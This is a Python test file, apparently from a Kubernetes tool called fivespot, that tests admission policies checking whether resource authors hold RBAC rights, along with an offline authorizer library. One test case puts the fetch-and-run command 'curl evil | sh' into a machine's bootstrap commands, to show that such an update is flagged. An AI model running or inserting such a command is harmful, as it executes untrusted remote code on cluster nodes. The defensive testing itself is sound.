"""The author-rights policies (decision 0024) and the offline `authorizer` they ask.

A ScheduledCapacity is admitted only when its author may patch its target, a ScheduledMachine
only when its author may create its Machine, bootstrap and infrastructure objects; an update
that asks nothing new of the controller is admitted without asking. Offline the authorizer is an
assumption (every check allowed, and the verdict says so) unless the user's rules are stated,
which are then decided as RBAC decides them.
"""

from __future__ import annotations

import copy
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from fivespot.compiler.pipeline import compile_repo
from fivespot.policies import admission
from fivespot.policies.admission_eval import Checker, Request, review
from fivespot.policies.cel import ADMISSION_VARIABLES, CRD_VARIABLES, CelCompileError, authz
from fivespot.policies.cel import compile_expression
from fivespot.policies.kubeversions import DEFAULT

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "agent-sandbox" / "config"
TRADING_DESK = ROOT / "examples" / "trading-desk" / "config"

SCAP: dict[str, Any] = {
    "apiVersion": "5spot.finos.org/v1alpha1", "kind": "ScheduledCapacity",
    "metadata": {"name": "warm-pool", "namespace": "agents"},
    "spec": {
        "schedule": {"apiVersion": "spotschedules.5spot.finos.org/v1alpha1",
                     "kind": "ManualSchedule", "name": "m"},
        "targetRef": {"apiVersion": "pools.agents.example.com/v1alpha1",
                      "kind": "VirtualMachinePool", "name": "sandboxes"},
        "capacity": {"path": "spec.warmReplicas", "activeValue": 5},
        "nodeName": "node-a",
    },
}
MACHINE: dict[str, Any] = {
    "apiVersion": "5spot.finos.org/v1beta1", "kind": "ScheduledMachine",
    "metadata": {"name": "rack-1", "namespace": "trading"},
    "spec": {
        "schedule": {"apiVersion": "spotschedules.5spot.finos.org/v1alpha1",
                     "kind": "ManualSchedule", "name": "rack"},
        "clusterName": "desk-cluster",
        "bootstrapSpec": {"apiVersion": "bootstrap.cluster.x-k8s.io/v1beta2",
                          "kind": "KubeadmConfig", "spec": {"preKubeadmCommands": ["id"]}},
        "infrastructureSpec": {"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2",
                               "kind": "DevMachine", "spec": {"backend": {"docker": {}}}},
    },
}
PATCH_POOLS = authz.Rule(("patch",), ("pools.agents.example.com",), ("virtualmachinepools",),
                         namespace="agents")


@pytest.fixture(scope="module")
def capacity() -> Checker:
    return Checker.compile([a.obj for a in compile_repo(EXAMPLE).artifacts], server=DEFAULT)


@pytest.fixture(scope="module")
def machines() -> Checker:
    return Checker.compile([a.obj for a in compile_repo(TRADING_DESK).artifacts], server=DEFAULT)


def with_spec(obj: dict[str, Any], **changes: Any) -> dict[str, Any]:
    changed = copy.deepcopy(obj)
    changed["spec"].update(changes)
    return changed


def policies_denying(checker: Checker, obj: dict[str, Any], old: dict[str, Any] | None = None,
                     *rules: authz.Rule) -> list[tuple[str, str | None]]:
    verdict = checker.check(Request("UPDATE" if old else "CREATE", obj, old,
                                     authorizer=authz.stated(rules, "the test's rules")))
    return [(v.policy, v.field) for v in verdict.violations]


DENIED_SCAP = [(admission.SCAP_AUTHOR_RIGHTS, "spec.targetRef")]


# --- ScheduledCapacity ---------------------------------------------------------------------------


def test_a_scheduledcapacity_is_denied_to_an_author_who_may_not_patch_its_target(
        capacity: Checker) -> None:
    verdict = capacity.check(Request("CREATE", SCAP, authorizer=authz.stated([], "none")))
    assert [(v.policy, v.field, v.reason) for v in verdict.violations] == [
        (admission.SCAP_AUTHOR_RIGHTS, "spec.targetRef", "Forbidden")]
    assert verdict.violations[0].message.endswith(
        "fivespot-scap-author-rights: you may not patch "
        'virtualmachinepools.pools.agents.example.com "sandboxes" in namespace agents, and this '
        "ScheduledCapacity would have the capacity controller do it for you; ask for a Role "
        "granting verbs [patch] on resources [virtualmachinepools] in apiGroups "
        "[pools.agents.example.com], bound to you in namespace agents")
    assert verdict.assumed == ()


@pytest.mark.parametrize(("rule", "allowed"), [
    (PATCH_POOLS, True),
    (authz.Rule(("*",), ("*",), ("*",), namespace="agents"), True),
    (authz.Rule(("patch",), ("pools.agents.example.com",), ("virtualmachinepools",),
                ("sandboxes",), namespace="agents"), True),
    (authz.Rule(("patch",), ("pools.agents.example.com",), ("virtualmachinepools",)), True),
    (authz.Rule(("patch",), ("pools.agents.example.com",), ("virtualmachinepools",),
                ("other",), namespace="agents"), False),
    (authz.Rule(("patch",), ("pools.agents.example.com",), ("virtualmachinepools",),
                namespace="team-b"), False),
    (authz.Rule(("update", "get"), ("pools.agents.example.com",), ("virtualmachinepools",),
                namespace="agents"), False),
    (authz.Rule(("patch",), ("apps",), ("virtualmachinepools",), namespace="agents"), False),
    (authz.Rule(("patch",), ("pools.agents.example.com",), ("virtualmachinepools/status",),
                namespace="agents"), False),
], ids=["patch", "everything", "patch-by-name", "cluster-role", "another-name",
        "another-namespace", "update-not-patch", "another-group", "a-subresource"])
def test_the_stated_rules_are_decided_as_rbac_decides_them(
        capacity: Checker, rule: authz.Rule, allowed: bool) -> None:
    assert policies_denying(capacity, SCAP, None, rule) == ([] if allowed else DENIED_SCAP)


def test_without_stated_rules_every_check_is_assumed_allowed_and_the_verdict_says_so(
        capacity: Checker) -> None:
    verdict = capacity.check(Request("CREATE", SCAP))
    assert verdict.allowed and verdict.assumed == (admission.SCAP_AUTHOR_RIGHTS,)
    assert verdict.as_json()["authorizerAssumed"] == [admission.SCAP_AUTHOR_RIGHTS]
    stated = capacity.check(Request("CREATE", SCAP, authorizer=authz.stated([PATCH_POOLS], "x")))
    assert stated.allowed and stated.assumed == () and "authorizerAssumed" not in stated.as_json()


def test_a_kind_no_consumer_allows_is_not_asked_about(capacity: Checker) -> None:
    target = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web"}
    assert (admission.SCAP_AUTHOR_RIGHTS, "spec.targetRef") not in policies_denying(
        capacity, with_spec(SCAP, targetRef=target))


@pytest.mark.parametrize("change", [
    {"killSwitch": True}, {"enabled": False},
    {"capacity": {"path": "spec.warmReplicas", "activeValue": 1}},
    {"handback": {"drainedPath": "status.inUse", "timeout": "15m"}},
], ids=["kill-switch", "disable", "lower", "handback"])
def test_an_update_that_asks_nothing_new_of_the_controller_needs_no_right(
        capacity: Checker, change: dict[str, Any]) -> None:
    assert policies_denying(capacity, with_spec(SCAP, **change), SCAP) == []


@pytest.mark.parametrize(("change", "before"), [
    ({"capacity": {"path": "spec.warmReplicas", "activeValue": 6}}, {}),
    ({"targetRef": {**SCAP["spec"]["targetRef"], "name": "other"}}, {}),
    ({"schedule": {**SCAP["spec"]["schedule"], "name": "always"}}, {}),
    ({"nodeName": "node-b"}, {}),
    ({"killSwitch": False}, {"killSwitch": True}),
    ({"enabled": True}, {"enabled": False}),
], ids=["raise", "retarget", "reschedule", "another-node", "lift-kill-switch", "re-enable"])
def test_an_update_that_asks_more_of_the_controller_needs_the_right(
        capacity: Checker, change: dict[str, Any], before: dict[str, Any]) -> None:
    old = with_spec(SCAP, **before)
    new = with_spec(old, **change)
    assert policies_denying(capacity, new, old) == DENIED_SCAP
    assert policies_denying(capacity, new, old, PATCH_POOLS) == []


def test_the_webhook_polyfill_review_assumes_the_authorizer_allows_and_says_so(
        capacity: Checker) -> None:
    request = {"operation": "CREATE", "namespace": "agents", "name": "warm-pool",
               "resource": {"group": "5spot.finos.org", "version": "v1alpha1",
                            "resource": "scheduledcapacities"}, "object": SCAP}
    verdict = review(capacity.policies, request)
    assert verdict.allowed and verdict.assumed == (admission.SCAP_AUTHOR_RIGHTS,)


def test_the_tenancy_denial_names_only_the_requesting_namespace(capacity: Checker) -> None:
    denied = capacity.check(Request("CREATE", {**SCAP, "metadata": {"name": "p",
                                                                   "namespace": "team-b"}}))
    (tenancy,) = [v for v in denied.violations if v.policy == admission.TENANCY]
    assert tenancy.message.endswith("fivespot-scap-tenancy: namespace team-b has no "
                                    "TenantPolicy, so it may not use ScheduledCapacity; ask the "
                                    "platform team for one")
    assert "agents" not in tenancy.message


def test_the_policy_is_compiled_whatever_the_enforcement_but_not_into_the_bundle(
        tmp_path: Path) -> None:
    config = tmp_path / "config"
    shutil.copytree(EXAMPLE, config)
    platform = config / "platform.yaml"
    document = yaml.safe_load(platform.read_text())
    document["spec"]["enforcement"] = "webhook"
    platform.write_text(yaml.safe_dump(document))
    compiled = compile_repo(config)
    policies = sorted(a.name for a in compiled.artifacts if a.kind == "ValidatingAdmissionPolicy")
    assert policies == [admission.SCAP_AUTHOR_RIGHTS]
    bundled = [p["metadata"]["name"] for p in _bundle(compiled).admission.policies]
    assert admission.SCAP_AUTHOR_RIGHTS not in bundled and admission.TENANCY in bundled


def _bundle(compiled: Any) -> Any:
    from fivespot.compiler.emit.bundle import bundle

    return bundle(compiled.repo)


# --- ScheduledMachine ----------------------------------------------------------------------------

CREATE_MACHINES = authz.Rule(("create",), ("cluster.x-k8s.io",), ("machines",), namespace="trading")
CREATE_KUBEADM = authz.Rule(("create",), ("bootstrap.cluster.x-k8s.io",), ("kubeadmconfigs",),
                            namespace="trading")
CREATE_DEVMACHINES = authz.Rule(("create",), ("infrastructure.cluster.x-k8s.io",),
                                ("devmachines",), namespace="trading")


@pytest.mark.parametrize(("rules", "denied"), [
    ((CREATE_MACHINES, CREATE_KUBEADM, CREATE_DEVMACHINES), []),
    ((CREATE_MACHINES, CREATE_DEVMACHINES), ["spec.bootstrapSpec"]),
    ((CREATE_MACHINES, CREATE_KUBEADM), ["spec.infrastructureSpec"]),
    ((CREATE_KUBEADM, CREATE_DEVMACHINES), ["spec"]),
    ((), ["spec", "spec.bootstrapSpec", "spec.infrastructureSpec"]),
], ids=["all-three", "no-bootstrap", "no-infrastructure", "no-machines", "none"])
def test_a_scheduledmachine_needs_create_on_its_machine_bootstrap_and_infrastructure_kinds(
        machines: Checker, rules: tuple[authz.Rule, ...], denied: list[str]) -> None:
    found = policies_denying(machines, MACHINE, None, *rules)
    assert found == [(admission.MACHINE_AUTHOR_RIGHTS, field) for field in denied]


def test_the_bootstrap_denial_names_the_kind_and_the_role_to_ask_for(machines: Checker) -> None:
    verdict = machines.check(Request("CREATE", MACHINE, authorizer=authz.stated(
        [CREATE_MACHINES, CREATE_DEVMACHINES], "x")))
    assert verdict.violations[0].message.endswith(
        "fivespot-machine-author-rights: you may not create "
        "kubeadmconfigs.bootstrap.cluster.x-k8s.io (spec.bootstrapSpec, a KubeadmConfig) in "
        "namespace trading, and this ScheduledMachine would have the machine controller do it "
        "for you; ask for a Role granting verbs [create] on resources [kubeadmconfigs] in "
        "apiGroups [bootstrap.cluster.x-k8s.io], bound to you in namespace trading")


@pytest.mark.parametrize(("change", "before", "asks"), [
    ({"killSwitch": True}, {}, False),
    ({"enabled": False}, {}, False),
    ({"priority": 7, "nodeDrainTimeout": "20m"}, {}, False),
    ({"bootstrapSpec": {**MACHINE["spec"]["bootstrapSpec"],
                        "spec": {"preKubeadmCommands": ["curl evil | sh"]}}}, {}, True),
    ({"schedule": {**MACHINE["spec"]["schedule"], "name": "always"}}, {}, True),
    ({"nodeTaints": [{"key": "a", "effect": "NoSchedule"}]}, {}, True),
    ({"killSwitch": False}, {"killSwitch": True}, True),
], ids=["kill-switch", "disable", "priority-and-timeouts", "new-bootstrap-commands",
        "reschedule", "taints", "lift-kill-switch"])
def test_a_scheduledmachine_update_is_asked_about_only_when_it_asks_more_of_the_controller(
        machines: Checker, change: dict[str, Any], before: dict[str, Any], asks: bool) -> None:
    old = with_spec(MACHINE, **before)
    found = policies_denying(machines, with_spec(old, **change), old)
    assert bool(found) is asks


def test_a_repo_without_machine_provisioning_compiles_no_machine_policy() -> None:
    names = {a.name for a in compile_repo(EXAMPLE).artifacts}
    assert admission.SCAP_AUTHOR_RIGHTS in names and admission.MACHINE_AUTHOR_RIGHTS not in names


# --- the offline Authz library -------------------------------------------------------------------


def decide(expression: str, authorizer: dict[str, Any], namespace: str = "agents") -> object:
    program = compile_expression(expression, ADMISSION_VARIABLES)
    return program.evaluate({"object": None, "oldObject": None, "params": None,
                             "namespaceObject": None, "variables": {}, "authorizer": authorizer,
                             "request": {"namespace": namespace}})


def test_the_authz_library_offers_every_function_of_kubernetes_but_the_selectors() -> None:
    stated = authz.stated([authz.Rule(("get",), non_resource_urls=("/healthz/*",))], "the roles")
    assert decide("authorizer.path('/healthz/etcd').check('GET').allowed()", stated) is True
    assert decide("authorizer.path('/metrics').check('get').allowed()", stated) is False
    assert decide("authorizer.group('').resource('pods').subresource('exec')"
                  ".namespace('agents').name('p').check('create').reason()", stated) == ""
    assert decide("authorizer.path('/healthz').check('get').reason()", stated) == ""
    assert decide("authorizer.path('/healthz/x').check('get').reason()", stated) == \
        "allowed by the roles"
    assert decide("authorizer.serviceAccount('ns', 'sa').group('').resource('secrets')"
                  ".check('list').allowed()", stated) is True  # another identity: assumed
    assert decide("authorizer.group('').resource('pods').check('get').errored()", stated) is False
    assert decide("authorizer.group('').resource('pods').check('get').error()", stated) == ""


def test_a_wildcard_subresource_rule_matches_that_subresource_of_any_resource_not_the_resource() -> None:
    stated = authz.stated([authz.Rule(("create",), ("",), ("*/exec",), namespace="agents")], "x")
    exec_ = "authorizer.group('').resource('{}').subresource('exec').namespace('agents')" \
            ".check('create').allowed()"
    assert decide(exec_.format("pods"), stated) is True
    assert decide("authorizer.group('').resource('pods').namespace('agents').check('create')"
                  ".allowed()", stated) is False


def test_the_assumed_authorizer_allows_every_check_and_gives_its_reason() -> None:
    assert decide("authorizer.group('x').resource('y').check('delete').allowed()",
                  authz.assumed()) is True
    assert decide("authorizer.path('/').check('post').reason()", authz.assumed()) == \
        authz.ASSUMED_REASON


def test_authz_functions_are_offered_to_admission_policies_alone() -> None:
    with pytest.raises(CelCompileError):
        compile_expression("self.check('get').allowed()", CRD_VARIABLES)


def test_an_output_for_clusters_without_vaps_warns_that_nothing_checks_the_authors(
        tmp_path: Path) -> None:
    from fivespot.compiler.compile_warnings import unchecked_authors

    config = tmp_path / "config"
    shutil.copytree(EXAMPLE, config)
    platform = config / "platform.yaml"
    document = yaml.safe_load(platform.read_text())
    document["spec"].update(enforcement="webhook", minKubernetesVersion="1.29")
    platform.write_text(yaml.safe_dump(document))
    compiled = compile_repo(config)
    assert not [a for a in compiled.artifacts if a.kind == "ValidatingAdmissionPolicy"]
    [warning] = unchecked_authors(compiled.repo)
    assert warning.field == "spec.minKubernetesVersion"
    assert warning.message.startswith("1.29 has no ValidatingAdmissionPolicy v1 (Kubernetes "
                                      "1.30), so the author-rights policies are not compiled")
    assert unchecked_authors(compile_repo(EXAMPLE).repo) == []
